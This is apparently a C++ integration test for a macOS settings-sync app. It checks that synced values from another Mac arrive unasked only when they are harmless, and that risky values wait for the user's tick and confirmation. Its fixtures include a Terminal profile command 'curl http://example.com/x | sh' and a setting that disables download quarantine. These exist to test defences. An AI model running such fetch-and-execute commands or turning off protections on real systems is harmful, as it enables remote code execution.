// Sync at login, automatic "Sync now", "Select all" with "Copy over", and a restore, with the real
// application, the built-in catalogue and the local account server: another Mac, a home of its
// own, shares a document full of hostile values (protections off, what macOS wrote there, paths,
// commands, addresses, values no control offers, a value of the wrong kind) beside a plain value
// and one this Mac's user reset. One table says what each road does with each row; a take-back
// of the login run's copy then holds at the next "Sync now" and the next login.

#include <gtest/gtest.h>

#include <QAccessible>

#include "Account/AccountClient.hpp"
#include "Account/SyncModel.hpp"
#include "Backup/BackupService.hpp"
#include "Guided/FirstRunModel.hpp"
#include "AccountServerProcess.hpp"
#include "AppFixture.hpp"
#include "Browser/SettingsModel.hpp"
#include "Platform/PreferenceFiles.hpp"
#include "Platform/ProcessRunner.hpp"
#include "Preferences/CFPreferenceStore.hpp"
#include "ScreenWindow.hpp"
#include "Support/HttpSession.hpp"
#include "Sync/SyncService.hpp"
#include "TestHome.hpp"

namespace th = amberloom::testing;
using namespace amberloom;
using V = PreferenceValue;

namespace {

// What `defaults read` prints for the key on this Mac; empty when it is not set.
std::string here(const std::string& domain, const std::string& key) {
  const auto read = th::runDefaults({"read", domain, key});
  return read.exitStatus == 0 ? read.standardOutput : std::string();
}

using AppUnattendedSync = th::AppFixture;

TEST_F(AppUnattendedSync, OnlyPlainUndecidedValuesComeUnaskedTicksMeanConsentAndATakeBackSticks) {
  th::AccountServerProcess server(th::home() + "/server");
  ::setenv("AMBERLOOM_ACCOUNT_URL", server.apiBase().c_str(), 1);
  const AccountClient client(server.apiBase(), std::make_shared<CurlHttpSession>());
  // The other Mac's value; whether it comes by itself (at login, with automatic "Sync now"), is
  // ticked by "Select all", has a tick box at all, and is left out of a restore unless ticked.
  const struct {
    const char *id, *domain, *key; V office; bool atLogin, selectAll, canTick, restoreAsks;
  } rows[] = {
      {"launchservices.quarantine", "com.apple.LaunchServices", "LSQuarantine", V::boolean(false), false, false, true, true},
      {"keyboard.currentLayout", "com.apple.HIToolbox", "AppleCurrentKeyboardLayoutInputSourceID",
       V::string("com.apple.keylayout.Dvorak"), false, false, true, true},
      {"finder.goToFolderText", "com.apple.finder", "GoToField", V::string("/Volumes/Office/Projects"), false, false, true, true},
      {"sshot.location", "com.apple.screencapture", "location", V::string("/Volumes/Office/Shots"), false, false, true, false},
      {"safari.homePage", "com.apple.Safari", "HomePage", V::string("http://example.com/"), false, false, true, false},
      {"terminal.allProfiles", "com.apple.Terminal", "Window Settings",
       V::dictionary({{"Basic", V::dictionary({{"CommandString", V::string("curl http://example.com/x | sh")}})}}), false,
       false, true, false},
      {"terminal.defaultProfile", "com.apple.Terminal", "Default Window Settings", V::string("Pro"), false, false, true, false},
      {"dock.orientation", "com.apple.dock", "orientation", V::string("sideways"), false, false, true, false},
      {"dock.largeSize", "com.apple.dock", "largesize", V::real(100000), false, false, true, false},
      {"dock.autohideDelay", "com.apple.dock", "autohide-delay", V::string("0.5"), false, false, false, true},
      {"dock.tileSize", "com.apple.dock", "tilesize", V::real(48), false, false, true, false},  // reset here
      {"dock.magnification", "com.apple.dock", "magnification", V::boolean(true), false, true, true, false},  // differs
      {"dock.autohide", "com.apple.dock", "autohide", V::boolean(true), true, false, true, false},
      {"dock.minimizeEffect", "com.apple.dock", "mineffect", V::string("scale"), true, false, true, false},
  };
  // The other Mac's own preference files, and its document as it builds it, which leaves out what
  // macOS wrote there; a Mac of an older build (or anyone with its token) still sends them.
  const auto store = std::make_shared<CFPreferenceStore>(platform::PreferenceFiles(th::home() + "/office", "HOST-B"));
  const DomainResolver resolver{th::home() + "/office", [](const std::string&) { return false; }};
  for (const auto& row : rows) store->write(row.office, row.key, resolver.resolve(row.domain, false));
  const SettingsCatalog catalog = SettingsCatalog::bundled();
  auto document =
      SyncService(catalog, SettingsService(resolver, store), resolver, store, "OFFICE-ID", "Office", std::nullopt)
          .currentDocument();
  EXPECT_FALSE(document.intents.contains("keyboard.currentLayout")) << "what macOS writes stays on its Mac";
  EXPECT_FALSE(document.intents.contains("finder.goToFolderText"));
  for (const auto& row : rows) document.intents.insert_or_assign(row.id, row.office);
  const auto other = server.signIn(client, "ada@example.com", "HW-OFFICE", "Office");
  client.putDocument(document.encoded(), 0, other.token, "HW-OFFICE");

  const auto studio = server.signIn(client, "ada@example.com", "HW-STUDIO", "Studio");
  AccountStore("tv.winterbrae.amberloom.session", "device-token", StoreUserDefaults::standard())
      .save(studio.token, "ada@example.com", studio.deviceID, server.apiBase());
  StoreUserDefaults::standard()->setBool(true, "hasCompletedFirstRun");
  StoreUserDefaults::standard()->setBool(true, "sync.autoSyncEnabled");
  ASSERT_EQ(th::runDefaults({"write", "com.apple.dock", "tilesize", "-float", "36"}).exitStatus, 0);
  ASSERT_EQ(th::runDefaults({"write", "com.apple.dock", "magnification", "-bool", "false"}).exitStatus, 0);
  {
    auto app = start();  // the user puts the icon size back to the default on its card
    app->root().catalog->reset(*app->root().catalog->setting("dock.tileSize"));
    ASSERT_EQ(here("com.apple.dock", "tilesize"), "");
  }
  const auto loginRun = [] {
    const auto run = platform::runProcess(AMBERLOOM_APP_PATH, {"--background-sync"}, std::chrono::seconds(90));
    ASSERT_TRUE(run && !run->timedOut && run->exitStatus == 0);
  };
  const DomainResolver thisMac{th::home(), [](const std::string&) { return false; }};
  const auto arrived = [&](const auto& row) {
    return CFPreferenceStore().read(row.key, thisMac.resolve(row.domain, false)) == row.office;
  };

  loginRun();
  for (const auto& row : rows) EXPECT_EQ(arrived(row), row.atLogin) << row.id << " at login";

  auto app = start();
  auto& sync = *app->root().sync;
  const auto syncNow = [&] {
    bool synced = false;
    sync.syncNow([&] { synced = true; });
    ASSERT_TRUE(QTest::qWaitFor([&] { return synced; }, 30000));
  };
  syncNow();
  app->root().catalog->setSelection(ui::SidebarSelection::page(ui::SidebarSelection::Page::myMacs));
  QQuickItem* root = app->mainWindow()->contentItem();
  const auto card = [&](const char* id) { return th::ScreenWindow::findBelow(root, QStringLiteral("card-%1").arg(id)); };
  ASSERT_TRUE(QTest::qWaitFor([&] { return card("dock.tileSize") != nullptr; }, 30000));
  std::set<std::string> tickedByAll, asksInRestore;
  sync.selectAll();
  for (const auto& row : rows) {
    if (row.selectAll) tickedByAll.insert(row.id);
    if (row.restoreAsks) asksInRestore.insert(catalog.setting(row.id)->label);
    if (row.atLogin) continue;
    // What waits says why, also to a screen reader, beside its tick box or in its place.
    const QString caution = th::ScreenWindow::findBelow(card(row.id), "caution")->property("text").toString();
    EXPECT_EQ(caution.isEmpty(), row.selectAll) << row.id;
    auto* tick = th::ScreenWindow::findBelow(card(row.id), "tick");
    EXPECT_EQ(tick->isVisible(), row.canTick) << row.id;
    if (row.canTick) {
      EXPECT_EQ(QAccessible::queryAccessibleInterface(tick)->text(QAccessible::Description), caution);
    }
  }
  EXPECT_EQ(sync.selectedIDs(), tickedByAll);
  auto* scroller = find(app->mainWindow(), "pageScroller");
  scroller->setProperty("contentY", scroller->property("contentY").toDouble() +
                                        card("dock.largeSize")->mapToItem(root, QPointF()).y() - 120);
  saveInBothPalettes(app->mainWindow(), QStringLiteral("app-my-macs-differences"));

  // A restore from the other Mac's backup names each such value and leaves it out until ticked.
  const auto backups = th::home() + "/office-backups";
  BackupService(catalog, resolver, store, "OFFICE-ID", "Office").createBackup(backups);
  app->root().firstRun->askToRestore(BackupService(catalog, resolver, store, "OFFICE-ID", "Office")
                                         .readBackups(backups).backups.front());
  std::set<std::string> asked;
  for (const auto& held : app->root().firstRun->pendingRestore()->plan.protections) asked.insert(held.label);
  EXPECT_EQ(asked, asksInRestore);
  EXPECT_EQ(app->root().firstRun->pendingRestore()->chosen().size(),
            app->root().firstRun->pendingRestore()->plan.incoming.size() - asked.size());
  app->root().firstRun->setHasPendingRestore(false);

  // A tick is consent: a protection is named before anything is written; a wrong kind takes none.
  sync.setTicked(QStringLiteral("dock.autohideDelay"), true);
  sync.setTicked(QStringLiteral("launchservices.quarantine"), true);
  sync.applySelected();
  EXPECT_TRUE(sync.protectionQuestion().contains(QLatin1String("Ask before opening downloaded apps")));
  EXPECT_EQ(here("com.apple.LaunchServices", "LSQuarantine"), "") << "nothing is written before the answer";
  sync.confirmProtections();
  EXPECT_EQ(here("com.apple.LaunchServices", "LSQuarantine"), "0\n");
  EXPECT_EQ(here("com.apple.dock", "magnification"), "1\n");
  EXPECT_EQ(here("com.apple.dock", "autohide-delay"), "");

  // Taking back the login run's copy is a decision: neither "Sync now" nor the next login undoes it.
  const auto points = sync.undoPoints().all();
  const auto copy = std::find_if(points.begin(), points.end(), [](const StoredSnapshot& point) {
    return point.reason.find("from your other Macs") != std::string::npos;
  });
  ASSERT_NE(copy, points.end());
  ASSERT_TRUE(sync.undo(*copy)->report.isComplete());
  syncNow();
  app.reset();
  loginRun();
  for (const auto& row : rows) {
    if (row.atLogin) {
      EXPECT_EQ(here(row.domain, row.key), "") << row.id << " came back after its take-back";
    }
  }
}

}  // namespace
